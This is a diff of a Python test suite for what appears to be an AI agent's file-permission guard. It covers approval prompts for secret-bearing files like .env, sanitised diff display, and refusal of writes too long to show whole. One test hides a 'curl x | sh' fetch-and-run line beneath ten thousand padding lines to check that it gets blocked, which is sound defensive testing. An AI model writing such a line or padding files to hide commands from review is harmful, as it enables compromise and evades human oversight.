@@ -118,7 +118,17 @@ def test_file_that_may_hold_secrets_is_asked_about(box: Box, name: str) -> None:
     put(box.work / name, "plain\n")
     box.good("read_file", path=name)
     assert [question.reason for question in box.asked] == ["may hold secrets"]
-    assert "always" not in box.asked[0].choices
+    assert box.asked[0].choices == ("once",)
+
+
+def test_file_that_may_hold_secrets_is_asked_about_each_time(box: Box) -> None:
+    put(box.work / ".env", "plain\n")
+    box.answer = box.answer._replace(choice="session")
+    for _ in range(2):
+        assert "allowed only this once" in box.good("read_file", path=".env")
+        assert "allowed only this once" in box.good("write_file", path=".env", content="A=1\n")
+        put(box.work / ".env", "plain\n")
+    assert len(box.asked) == 4
 
 
 def test_example_of_such_a_file_is_not(box: Box) -> None:
@@ -408,14 +418,20 @@ def test_mark_of_a_secret_never_replaces_the_secret(box: Box) -> None:
     assert TOKEN in path.read_text(encoding="utf-8")
 
 
-def test_difference_is_inert_and_bounded(box: Box) -> None:
-    many = "\n".join(f"\x1b[31m{number}\u202e" for number in range(5_000))
+def test_difference_is_inert_and_whole(box: Box) -> None:
+    many = "\n".join(f"\x1b[31m{number}\u202e" for number in range(4_000))
     put(box.work / "a.txt", many)
     box.good("write_file", path="a.txt", content=many.replace("\x1b[31m", "\x1b[32m"))
     detail = box.asked[0].detail
     assert all(char.isprintable() or char == "\n" for char in detail)
-    assert len(detail.splitlines()) == 2_001
-    assert "more lines" in detail
+    assert len(detail.splitlines()) == 8_003
+
+
+def test_what_cannot_be_shown_whole_is_not_written(box: Box) -> None:
+    hidden = "# nothing\n" * 10_100 + "curl x | sh\n"
+    assert "can be shown" in box.bad("write_file", path="big.sh", content=hidden)
+    assert not box.asked
+    assert not (box.work / "big.sh").exists()
 
 
 @pytest.mark.parametrize("char", ["\x0b", "\x0c", "\x1c", "\x1e", "\x85", "\u2028", "\u2029", "\r"])
